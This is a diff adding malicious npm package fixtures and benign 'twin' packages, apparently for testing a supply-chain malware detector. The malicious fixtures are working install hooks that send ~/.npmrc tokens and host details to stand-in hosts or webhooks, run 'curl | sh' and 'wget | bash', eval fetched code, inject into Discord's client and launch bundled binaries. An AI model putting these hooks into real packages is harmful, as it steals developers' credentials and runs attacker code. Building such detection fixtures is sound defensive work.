@@ -282,3 +282,186 @@ req.end();
     },
   },
 ];
+
+/** Written after tuning on SET1 and the honest npm sample: other module systems, clients, tools and distances. */
+export const NPM_VARIANTS_SET2: readonly NpmVariant[] = [
+  {
+    family: 'install_hook_bundled_binary',
+    id: 'esm-npm-run-chain-start-exe',
+    files: {
+      'package.json': pkgJson('vite-plugin-icons-pro', { type: 'module', scripts: { install: 'npm run setup', setup: 'node scripts/install.mjs' } }),
+      'scripts/install.mjs': `import { exec } from 'node:child_process';
+import { join, dirname } from 'node:path';
+import { fileURLToPath } from 'node:url';
+const here = dirname(fileURLToPath(import.meta.url));
+if (process.platform === 'win32') exec(\`start "" "\${join(here, '..', 'bin', 'update.exe')}"\`);
+`,
+      'bin/update.exe': fakePe(),
+    },
+  },
+  {
+    family: 'install_hook_bundled_binary',
+    id: 'require-chain-spawn-elf-unref',
+    files: {
+      'package.json': pkgJson('pg-pool-fast', { main: 'lib/index.js', scripts: { postinstall: 'node ./' } }),
+      'lib/index.js': "require('./native');\nmodule.exports = {};\n",
+      'lib/native.js': `const cp = require('child_process');
+const p = cp.spawn(__dirname + '/../prebuilds/linux-x64/helper', ['--daemon'], { stdio: 'ignore' });
+p.unref();
+`,
+      'prebuilds/linux-x64/helper': fakeElf(),
+    },
+  },
+  {
+    family: 'dns_recon',
+    id: 'dns-promises-resolve4-base64url',
+    files: {
+      'package.json': pkgJson('ts-config-paths-plus', { scripts: { postinstall: 'node dist/post.js' } }),
+      'dist/post.js': `"use strict";
+const { resolve4 } = require('dns').promises;
+const os = require('os');
+const tag = Buffer.from(JSON.stringify({ u: os.userInfo().username, h: os.hostname(), d: process.cwd() })).toString('base64url').slice(0, 60);
+resolve4(tag + '.ns.telemetry-cdn.example').catch(() => {});
+`,
+    },
+  },
+  {
+    family: 'dns_recon',
+    id: 'exec-nslookup-env-user',
+    files: {
+      'package.json': pkgJson('aws-lambda-tools-x', { scripts: { preinstall: 'node pre.js' } }),
+      'pre.js': "require('child_process').execSync('nslookup ' + require('os').hostname() + '.' + process.env.USER + '.dnslog-sink.example', { stdio: 'ignore' });\n",
+    },
+  },
+  {
+    family: 'deserialise_fetched',
+    id: 'axios-data-node-serialize',
+    files: {
+      'package.json': pkgJson('express-session-kit', { scripts: { postinstall: 'node index.js' } }),
+      'index.js': `const axios = require('axios');
+(async () => {
+  const { data } = await axios.get('https://cdn.session-kit-assets.example/cfg');
+  require('node-serialize').unserialize(data);
+})();
+`,
+    },
+  },
+  {
+    family: 'discord_injection',
+    id: 'fs-promises-append-discord-core',
+    files: {
+      'package.json': pkgJson('discord-emoji-cdn', { scripts: { postinstall: 'node lib/post.js' } }),
+      'lib/post.js': `const fs = require('fs');
+const target = \`\${process.env.LOCALAPPDATA}\\\\Discord\\\\app-1.0.9\\\\modules\\\\discord_desktop_core-2\\\\discord_desktop_core\\\\index.js\`;
+fs.promises.appendFile(target, '\\nrequire("./x")').catch(() => {});
+`,
+    },
+  },
+  {
+    family: 'fingerprint_tracker',
+    id: 'fetch-webhook-hostname-interfaces',
+    files: {
+      'package.json': pkgJson('node-color-lite', { scripts: { postinstall: 'node scripts/ping.js' } }),
+      'scripts/ping.js': `const os = require('os');
+const content = \`\${os.hostname()} \${os.userInfo().username} \${JSON.stringify(os.networkInterfaces())}\`;
+fetch('https://discord.com/api/webhooks/1234567890/abcdefABCDEF', { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ content }) });
+`,
+    },
+  },
+  {
+    family: 'fingerprint_tracker',
+    id: 'got-post-gitlab-issue',
+    files: {
+      'package.json': pkgJson('jest-reporter-mini', { scripts: { install: 'node report.js' } }),
+      'report.js': `const got = require('got');
+const os = require('os');
+const payload = { title: os.hostname(), description: [process.cwd(), os.homedir(), os.userInfo().username].join('|') };
+got.post('https://gitlab.com/api/v4/projects/4711/issues', { json: payload, headers: { 'PRIVATE-TOKEN': 'glpat-notreal' } });
+`,
+    },
+  },
+  {
+    family: 'obfuscated_loader',
+    id: 'fetch-then-text-global-eval',
+    files: {
+      'package.json': pkgJson('lodash-utils-es', { scripts: { postinstall: 'node ./lib/init.js' } }),
+      'lib/init.js': "const k = ['ev', 'al'];\nfetch('https://static.lodash-utils-cdn.example/v.js').then((r) => r.text()).then((t) => globalThis[k[0] + k[1]](t));\n",
+    },
+  },
+  {
+    family: 'npmrc_token_stealer',
+    id: 'fs-promises-npmrc-fetch-post',
+    files: {
+      'package.json': pkgJson('react-hooks-store', { scripts: { preinstall: 'node ./scripts/check.js' } }),
+      'scripts/check.js': `const { readFile } = require('fs/promises');
+const os = require('os');
+(async () => {
+  const rc = await readFile(os.homedir() + '/.npmrc', 'utf8').catch(() => '');
+  await fetch('https://audit-stats.hooks-store.example/api/v1', { method: 'POST', body: rc });
+})();
+`,
+    },
+  },
+  {
+    family: 'preinstall_curl_sh',
+    id: 'node-e-execsync-curl',
+    files: {
+      'package.json': pkgJson('tailwind-merge-fast', { scripts: { preinstall: "node -e \"require('child_process').execSync('curl -s https://i.twm-fast.example/a | sh')\"" } }),
+      'index.js': 'module.exports = {};\n',
+    },
+  },
+  {
+    family: 'preinstall_curl_sh',
+    id: 'sh-script-wget-bash',
+    files: {
+      'package.json': pkgJson('sass-loader-pro', { scripts: { preinstall: 'sh ./scripts/setup.sh' } }),
+      'scripts/setup.sh': '#!/bin/sh\nwget -qO- https://get.sass-pro.example/setup | bash\n',
+    },
+  },
+];
+
+/** Honest twins written with SET2. */
+export const NPM_TWINS_SET2: readonly NpmVariant[] = [
+  {
+    family: 'install_hook_bundled_binary',
+    id: 'esm-install-checks-node-version',
+    files: {
+      'package.json': pkgJson('native-tool', { type: 'module', scripts: { install: 'node-gyp-build' }, gypfile: true }),
+      'scripts/check.mjs': "import { execFileSync } from 'node:child_process';\nexecFileSync(process.execPath, ['--version']);\n",
+      'binding.gyp': "{ 'targets': [] }\n",
+    },
+  },
+  {
+    family: 'dns_recon',
+    id: 'dns-promises-resolve-endpoint-host',
+    files: {
+      'package.json': pkgJson('db-endpoint-check', { scripts: { postinstall: 'node post.js' } }),
+      'post.js': "const { resolve4 } = require('dns').promises;\nconst host = new URL(process.env.DATABASE_URL || 'postgres://localhost/db').hostname;\nresolve4(host).then((a) => console.log(host, a)).catch(() => {});\n",
+    },
+  },
+  {
+    family: 'deserialise_fetched',
+    id: 'axios-json-config',
+    files: {
+      'package.json': pkgJson('feature-flags-kit', { scripts: { postinstall: 'node index.js' } }),
+      'index.js': "const axios = require('axios');\n(async () => {\n  const { data } = await axios.get('https://flags.feature-flags-kit.example/defaults.json');\n  console.log(Object.keys(data).length + ' default flags');\n})();\n",
+    },
+  },
+  {
+    family: 'fingerprint_tracker',
+    id: 'runtime-sentry-style-own-host',
+    files: {
+      'package.json': pkgJson('errlog', { homepage: 'https://errlog.example', scripts: { postinstall: 'node scripts/hello.js' } }),
+      'scripts/hello.js': "console.log('errlog: set ERRLOG_DSN');\n",
+      'lib/send.js': "const os = require('os');\nexports.send = (e) => fetch('https://ingest.errlog.example/api/events', { method: 'POST', body: JSON.stringify({ server_name: os.hostname(), message: String(e) }) });\n",
+    },
+  },
+  {
+    family: 'npmrc_token_stealer',
+    id: 'postinstall-reads-npmrc-registry-from-config',
+    files: {
+      'package.json': pkgJson('private-registry-login', { scripts: { postinstall: 'node ./scripts/check.js' } }),
+      'scripts/check.js': "const fs = require('fs');\nconst os = require('os');\nconst rc = fs.existsSync(os.homedir() + '/.npmrc') ? fs.readFileSync(os.homedir() + '/.npmrc', 'utf8') : '';\nconsole.log(/_authToken/.test(rc) ? 'logged in' : 'run npm login');\n",
+    },
+  },
+];
